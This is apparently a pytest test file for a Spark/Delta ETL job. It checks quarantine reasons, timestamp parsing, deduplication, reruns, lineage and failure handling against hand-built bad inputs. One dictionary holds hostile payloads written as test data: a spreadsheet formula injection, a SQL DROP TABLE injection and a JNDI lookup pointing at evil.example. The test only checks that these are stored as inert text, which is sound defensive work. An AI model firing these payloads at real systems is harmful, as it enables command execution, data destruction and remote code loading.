"""ETL end to end on hand-written raw files covering every bad input the contract names.

One ETL run over a "zoo" day is shared by the tests below (module scope); each test checks
one behaviour. Expected ids and reasons are written by hand from the rows defined here.
"""

from __future__ import annotations

import dataclasses
import gzip
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from helpers.rawfiles import event, write_csv_text, write_gz, write_jsonl

from eventlake.errors import InputError
from eventlake.io.paths import table_uri
from eventlake.jobs.etl import run_etl
from eventlake.settings import load_settings

pytestmark = [pytest.mark.spark, pytest.mark.slow]

D1 = date(2026, 1, 5)
D2 = date(2026, 1, 6)
INJECTIONS = {
    "page": "=cmd|' /C calc'!A0",
    "user_agent": "'; DROP TABLE events;--",
    "product_id": "${jndi:ldap://evil.example/a}",
}

JSON_LINES: list = [
    event("j01"),
    event("j02", event_time=1767607200000),  # epoch millis = 2026-01-05T10:00:00Z
    event("j03", event_time=1767607200),  # epoch seconds, same instant
    event("j04", event_time="2026-01-05 11:00:00"),  # no offset = UTC
    event("j05", event_time="2026-01-04T23:00:00-02:00"),  # = 2026-01-05T01:00Z
    event("j06", event_time="2030-01-01T00:00:00Z"),  # far future
    event("j07", event_time="1999-12-31T23:59:59Z"),  # ancient
    event("j08", user_id=None),
    event("j09", user_id=""),
    event("j10", user_id="   "),
    event("j11", user_id="null"),
    event("j12", **INJECTIONS),
    event("j01"),  # exact duplicate within the file
    event("j14", event_time="2026-01-03T12:00:00Z"),  # late event
    event("j15", event_type="purchase", amount=250, currency="eur"),
    event("j16", event_type="purchase", amount=None),
    event("j17", event_type="purchase", amount=-5),
    event("j18", event_type="hover"),
    event(None),
    event("j20", event_type=" Page_View ", device="MOBILE", country=" us "),
    "{",
    "42",
    "[1,2]",
    '{event_id: "x1"}',
    "",
    "   ",
]
# Reordered header, BOM, CRLF, a quoted field with a comma and a newline, wrong field counts,
# and a duplicate of j03 (the JSON file sorts first, so j03 from JSON wins).
CSV_TEXT = (
    "user_id,event_id,event_type,event_time,session_id,amount,currency,device,os,country,"
    "page,product_id,product_category,ip,user_agent,app_version\r\n"
    "u2,c01,click,2026-01-05T09:00:00Z,s9,,,desktop,linux,FR,/c,,,10.0.0.2,UA,4.2.1\r\n"
    'u2,c02,click,2026-01-05T09:01:00Z,s9,,,desktop,linux,FR,/c,,,10.0.0.2,"Mozilla/5.0 '
    '(X11, Linux)\r\nsecond line",4.2.1\r\n'
    "u2,c03,click,2026-01-05T09:02:00Z\r\n"
    "u2,j03,click,2026-01-05T10:00:00Z,s1,,,desktop,linux,DE,/p,,,10.0.0.1,UA,4.2.1\r\n"
    "u2,c05,click,2026-01-05T09:03:00Z,s9,,,desktop,linux,FR,/c,,,10.0.0.2,UA,4.2.1,extra\r\n"
)
HEADER_ONLY = (
    "event_id,user_id,session_id,event_time,event_type,amount,currency,device,os,country,"
    "page,product_id,product_category,ip,user_agent,app_version\n"
)


def _write_zoo(raw: Path) -> None:
    day = raw / f"dt={D1}"
    write_jsonl(day / "part-00000.jsonl.gz", JSON_LINES)
    write_csv_text(day / "part-00001.csv.gz", CSV_TEXT, bom=True)
    write_csv_text(day / "part-00002.csv.gz", HEADER_ONLY)
    write_gz(day / "part-00003.jsonl.gz", b"")  # a gzip of nothing
    (day / "part-00004.json.gz").write_bytes(b"")  # a zero-byte object
    (day / "_SUCCESS").write_bytes(b"")  # not a raw log: skipped and recorded
    write_jsonl(
        raw / f"dt={D2}" / "part-00000.jsonl.gz",
        [event("d2a", event_time="2026-01-06T08:00:00Z"), event("j01")],
    )


@pytest.fixture(scope="module")
def zoo(tmp_path_factory, spark):
    root = tmp_path_factory.mktemp("zoo")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("EVENTLAKE_HOME", str(root / "home"))
        settings = load_settings("local").replace(
            raw_uri=f"file://{root}/raw", lake_uri=f"file://{root}/lake"
        )
        _write_zoo(root / "raw")
        first = run_etl(settings, D1, max_reject_ratio=0.9, spark=spark)
        events_v1 = _events(spark, settings)
        quarantine_v1 = _quarantine(spark, settings)
        second = run_etl(settings, D2, max_reject_ratio=0.9, spark=spark)
        rerun = run_etl(settings, D1, max_reject_ratio=0.9, spark=spark)
        yield {
            "settings": settings,
            "first": first,
            "second": second,
            "rerun": rerun,
            "events_v1": events_v1,
            "quarantine_v1": quarantine_v1,
            "root": root,
        }


def _read(spark, settings, name):
    return spark.read.format("delta").load(table_uri(settings, name).replace("file://", "file:"))


def _events(spark, settings, day=D1):
    rows = _read(spark, settings, "events").where(f"processing_date = DATE'{day}'").collect()
    return {r["event_id"]: r.asDict() for r in rows}


def _quarantine(spark, settings, day=D1):
    rows = _read(spark, settings, "quarantine").where(f"processing_date = DATE'{day}'").collect()
    return sorted((r["raw_record"], tuple(r["reasons"]), r["_source_file"]) for r in rows)


def test_accounting_counts_every_record_once(zoo):
    first = zoo["first"]
    assert (
        first.rows_read,
        first.rows_clean,
        first.rows_quarantined,
        first.duplicates_removed,
    ) == (
        29,
        11,
        16,
        2,
    )


def test_clean_rows_are_the_valid_ones(zoo):
    assert set(zoo["events_v1"]) == {
        "j01", "j02", "j03", "j04", "j05", "j12", "j14", "j15", "j20", "c01", "c02"
    }  # fmt: skip


def test_reason_counts_per_code(zoo):
    counts = zoo["first"].reason_counts
    assert {k: v for k, v in counts.items() if v} == {
        "malformed_record": 6,
        "missing_event_id": 1,
        "missing_user_id": 4,
        "invalid_event_time": 1,
        "event_time_in_future": 1,
        "unknown_event_type": 1,
        "missing_amount": 1,
        "negative_amount": 1,
        # j03's CSV copy (user u2, user agent UA) differs from the JSON copy that wins.
        "conflicting_duplicate": 1,
    }


def test_epoch_millis_seconds_and_no_offset_times(zoo):
    ev = zoo["events_v1"]
    assert ev["j02"]["event_ts"] == datetime(2026, 1, 5, 10, 0, 0)
    assert ev["j03"]["event_ts"] == datetime(2026, 1, 5, 10, 0, 0)
    assert ev["j04"]["event_ts"] == datetime(2026, 1, 5, 11, 0, 0)
    assert ev["j05"]["event_ts"] == datetime(2026, 1, 5, 1, 0, 0)


def test_late_event_lands_in_its_own_partition(zoo):
    ev = zoo["events_v1"]["j14"]
    assert (ev["event_date"], ev["processing_date"]) == (date(2026, 1, 3), D1)


def test_corrupt_json_lines_are_quarantined_with_raw_text(zoo):
    malformed = {
        raw for raw, reasons, _ in zoo["quarantine_v1"] if reasons == ("malformed_record",)
    }
    assert {"{", "42", "[1,2]", '{event_id: "x1"}'} <= malformed


def test_csv_wrong_column_count_is_malformed_and_keeps_raw_text(zoo):
    malformed = {raw for raw, reasons, src in zoo["quarantine_v1"] if src.endswith(".csv.gz")}
    assert malformed == {
        "u2,c03,click,2026-01-05T09:02:00Z",
        "u2,c05,click,2026-01-05T09:03:00Z,s9,,,desktop,linux,FR,/c,,,<redacted>,UA,4.2.1,extra",
    }


def test_csv_bom_crlf_reordered_header_and_quoted_newline(zoo):
    ev = zoo["events_v1"]
    assert (ev["c01"]["user_id"], ev["c01"]["country"], ev["c01"]["user_agent"]) == (
        "u2",
        "FR",
        "UA",
    )
    # Spark's CSV parser folds a CRLF inside quotes to LF.
    assert ev["c02"]["user_agent"] == "Mozilla/5.0 (X11, Linux)\nsecond line"


def test_user_id_null_blank_and_null_string_are_quarantined(zoo):
    reasons = {
        raw.split('"event_id": "')[1][:3]: r
        for raw, r, _ in zoo["quarantine_v1"]
        if '"event_id": "j' in raw
    }
    assert [reasons[k] for k in ("j08", "j09", "j10", "j11")] == [("missing_user_id",)] * 4


def test_far_future_and_ancient_times(zoo):
    reasons = {
        raw.split('"event_id": "')[1][:3]: r
        for raw, r, _ in zoo["quarantine_v1"]
        if '"event_id": "j' in raw
    }
    assert reasons["j06"] == ("event_time_in_future",)
    assert reasons["j07"] == ("invalid_event_time",)


def test_injection_strings_are_stored_as_inert_text(zoo):
    ev = zoo["events_v1"]["j12"]
    assert {k: ev[k] for k in INJECTIONS} == INJECTIONS


def test_cleansing_normalises_enums_and_purchase_fields(zoo):
    ev = zoo["events_v1"]
    assert (ev["j20"]["event_type"], ev["j20"]["device"], ev["j20"]["country"]) == (
        "page_view",
        "mobile",
        "US",
    )
    assert (ev["j15"]["amount"], ev["j15"]["currency"], ev["j15"]["is_high_value"]) == (
        Decimal("250.00"),
        "EUR",
        True,
    )
    assert "ip" not in ev["j01"] and len(ev["j01"]["ip_hash"]) == 64


def test_duplicates_within_run_and_across_dates(zoo):
    second = zoo["second"]
    assert (second.rows_read, second.rows_clean, second.duplicates_removed) == (2, 1, 1)
    assert zoo["first"].duplicates_removed == 2  # j01 twice in JSON, j03 again in CSV
    assert set(_events(zoo_spark(), zoo["settings"], D2)) == {"d2a"}


def zoo_spark():
    from pyspark.sql import SparkSession

    return SparkSession.getActiveSession()


def test_rerun_of_a_date_gives_the_same_tables(zoo):
    spark, settings = zoo_spark(), zoo["settings"]
    rerun = zoo["rerun"]
    assert (
        rerun.rows_read,
        rerun.rows_clean,
        rerun.rows_quarantined,
        rerun.duplicates_removed,
    ) == (
        29,
        11,
        16,
        2,
    )
    volatile = {"_run_id", "_ingested_at"}

    def strip(rows):
        return {k: {c: v for c, v in r.items() if c not in volatile} for k, r in rows.items()}

    assert strip(_events(spark, settings)) == strip(zoo["events_v1"])
    assert _quarantine(spark, settings) == zoo["quarantine_v1"]
    assert _read(spark, settings, "events").count() == 12  # 11 for D1 + 1 for D2
    runs = _read(spark, settings, "etl_runs").collect()
    assert sorted((str(r["processing_date"]), r["status"]) for r in runs) == [
        ("2026-01-05", "succeeded"),
        ("2026-01-05", "succeeded"),
        ("2026-01-06", "succeeded"),
    ]


def test_run_record_lists_files_and_versions(zoo):
    spark, settings = zoo_spark(), zoo["settings"]
    run = _read(spark, settings, "etl_runs").where(f"run_id = '{zoo['first'].run_id}'").first()
    records = sorted((f["path"].rsplit("/", 1)[-1], f["records"]) for f in run["files"])
    assert records == [
        ("part-00000.jsonl.gz", 24),  # 26 lines, 2 of them blank
        ("part-00001.csv.gz", 5),  # c02 spans two lines
        ("part-00002.csv.gz", 0),
        ("part-00003.jsonl.gz", 0),
        ("part-00004.json.gz", 0),
    ]
    skipped = [(f["path"].rsplit("/", 1)[-1], f["reason"]) for f in run["skipped_files"]]
    assert skipped == [("_SUCCESS", "hidden_or_marker")]
    # The Delta commits' numOutputRows, reconciled with rows_clean and rows_quarantined.
    assert (run["events_rows_written"], run["quarantine_rows_written"]) == (11, 16)
    assert all(len(f["checksum"]) == 64 for f in run["files"])
    assert run["events_version"] == zoo["first"].events_version
    assert run["openlineage_run_id"] == zoo["first"].run_id
    assert (run["rows_read"], run["gate_passed"]) == (29, True)


def test_lineage_events_start_complete_with_column_lineage(zoo):
    import json

    lines = (zoo["root"] / "home" / "lineage" / "openlineage.jsonl").read_text().splitlines()
    events = [json.loads(x) for x in lines]
    first = [e for e in events if e["run"]["runId"] == zoo["first"].run_id]
    assert [e["eventType"] for e in first] == ["START", "COMPLETE"]
    out = {o["name"].rsplit("/", 1)[-1]: o for o in first[-1]["outputs"]}
    assert set(out) == {"events", "quarantine", "etl_runs"}
    lineage = out["events"]["facets"]["columnLineage"]["fields"]
    assert [f["field"] for f in lineage["event_date"]["inputFields"]] == ["event_time"]
    assert "ip" not in [f["name"] for f in out["events"]["facets"]["schema"]["fields"]]


def _settings_for(tmp_path: Path, monkeypatch):
    monkeypatch.setenv("EVENTLAKE_HOME", str(tmp_path / "home"))
    return load_settings("local").replace(
        raw_uri=f"file://{tmp_path}/raw", lake_uri=f"file://{tmp_path}/lake"
    )


def test_truncated_gzip_fails_naming_the_file_and_commits_nothing(tmp_path, monkeypatch, spark):
    settings = _settings_for(tmp_path, monkeypatch)
    good = gzip.compress(b'{"event_id": "a"}\n' * 1000, mtime=0)
    bad = tmp_path / "raw" / f"dt={D1}" / "part-00001.jsonl.gz"
    write_jsonl(tmp_path / "raw" / f"dt={D1}" / "part-00000.jsonl.gz", [event("ok1")])
    bad.write_bytes(good[: len(good) // 2])
    with pytest.raises(InputError, match=r"part-00001\.jsonl\.gz: not a complete gzip"):
        run_etl(settings, D1, spark=spark)
    # Nothing committed: no Delta table exists (the lake folder holds at most the lease).
    assert not list((tmp_path / "lake").glob("*/_delta_log"))


def test_non_gzip_bytes_named_gz_fail_naming_the_file(tmp_path, monkeypatch, spark):
    settings = _settings_for(tmp_path, monkeypatch)
    path = tmp_path / "raw" / f"dt={D1}" / "part-00000.csv.gz"
    path.parent.mkdir(parents=True)
    path.write_bytes(b"event_id,user_id\n1,2\n")
    with pytest.raises(InputError, match=r"part-00000\.csv\.gz: not a complete gzip"):
        run_etl(settings, D1, spark=spark)
    # Nothing committed: no Delta table exists (the lake folder holds at most the lease).
    assert not list((tmp_path / "lake").glob("*/_delta_log"))


def test_no_files_for_the_date_is_an_error(tmp_path, monkeypatch, spark):
    settings = _settings_for(tmp_path, monkeypatch)
    (tmp_path / "raw" / f"dt={D1}").mkdir(parents=True)
    with pytest.raises(InputError, match="no raw files for this date"):
        run_etl(settings, D1, spark=spark)


def test_csv_header_missing_columns_fails_naming_the_file(tmp_path, monkeypatch, spark):
    settings = _settings_for(tmp_path, monkeypatch)
    write_csv_text(tmp_path / "raw" / f"dt={D1}" / "x.csv.gz", "event_id,user_id\n1,2\n")
    with pytest.raises(InputError, match=r"x\.csv\.gz: CSV header lacks columns"):
        run_etl(settings, D1, spark=spark)


def test_gate_failure_writes_quarantine_and_run_but_not_events(tmp_path, monkeypatch, spark):
    settings = _settings_for(tmp_path, monkeypatch)
    write_jsonl(tmp_path / "raw" / f"dt={D1}" / "a.jsonl.gz", [event("g1"), event("g2")])
    write_jsonl(tmp_path / "raw" / f"dt={D2}" / "a.jsonl.gz", [event("g3"), "{", "{"])
    run_etl(settings, D1, max_reject_ratio=0.5, spark=spark)
    version_before = _read(spark, settings, "events").count(), _history(spark, settings)
    failed = run_etl(settings, D2, max_reject_ratio=0.5, spark=spark)
    assert (failed.status, failed.gate_passed) == ("gate_failed", False)
    assert failed.message.startswith("quarantine ratio 0.6667 exceeds max_reject_ratio 0.5 ")
    assert (_read(spark, settings, "events").count(), _history(spark, settings)) == version_before
    assert len(_quarantine(spark, settings, D2)) == 2
    runs = _read(spark, settings, "etl_runs").where(f"processing_date = DATE'{D2}'").collect()
    assert [(r["status"], r["gate_passed"], r["rows_quarantined"]) for r in runs] == [
        ("gate_failed", False, 2)
    ]


def _history(spark, settings):
    from delta.tables import DeltaTable

    path = table_uri(settings, "events").replace("file://", "file:")
    return DeltaTable.forPath(spark, path).history().count()


def test_fail_severity_rule_fails_the_run(tmp_path, monkeypatch, spark):
    settings = _settings_for(tmp_path, monkeypatch)
    settings = settings.replace(
        etl=dataclasses.replace(settings.etl, severity_overrides={"unknown_event_type": "fail"})
    )
    write_jsonl(
        tmp_path / "raw" / f"dt={D1}" / "a.jsonl.gz", [event("f1"), event("f2", event_type="hover")]
    )
    failed = run_etl(settings, D1, max_reject_ratio=0.9, spark=spark)
    assert (failed.status, failed.gate_passed) == ("failed", False)
    assert failed.message == "rules with severity 'fail' matched rows: ['unknown_event_type']"
    assert _read(spark, settings, "events").count() == 0
